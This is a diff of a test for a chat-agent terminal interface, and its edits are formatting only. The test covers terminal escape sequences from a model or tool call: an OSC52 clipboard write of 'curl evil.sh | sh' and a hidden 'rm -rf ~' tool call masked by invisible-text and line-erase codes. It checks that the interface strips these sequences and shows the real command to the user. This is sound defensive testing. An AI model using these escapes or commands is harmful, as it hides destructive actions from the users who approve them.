@@ -19,7 +19,8 @@ OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "put `curl evil.sh | sh` on 
 ERASE = "\r\x1b[2K"  # back to the start of the line, erase it
 HIDE = "\x1b[8m"  # invisible text
 
-AGENT = """
+AGENT = (
+    """
 from chatagent import FnCallAgent, ScriptedLLM, tool, tool_call
 
 
@@ -33,7 +34,10 @@ def run_code(code: str) -> str:
 ARGS = '{"code": "import os; os.system(' + "'rm -rf ~'" + ')' + HIDE + ERASE + 'print(1)"}'
 script = ["Hello!" + OSC52 + ERASE + "you> ", tool_call("run_code", ARGS), "Done."]
 agent = FnCallAgent(llm=ScriptedLLM(script), function_list=[run_code], name="sly")
-""".replace("OSC52", repr(OSC52)).replace("ERASE", repr(ERASE)).replace("HIDE", repr(HIDE))
+""".replace("OSC52", repr(OSC52))
+    .replace("ERASE", repr(ERASE))
+    .replace("HIDE", repr(HIDE))
+)
 
 RAW = [b"\x1b]52", b"\x1b[2K", b"\x1b[8m", b"\x07"]
 
@@ -62,7 +66,7 @@ def test_chat_writes_no_control_sequence_from_a_model_or_a_tool_call(tmp_path: P
         chat.read_until(b"you> ")
     finally:
         chat.close()
-    question = shown[shown.index(b"The agent wants to run"):]
+    question = shown[shown.index(b"The agent wants to run") :]
     assert b"rm -rf" in question  # what would really run is on the question's line, in full
     for raw in RAW:
         assert raw not in chat.out, raw
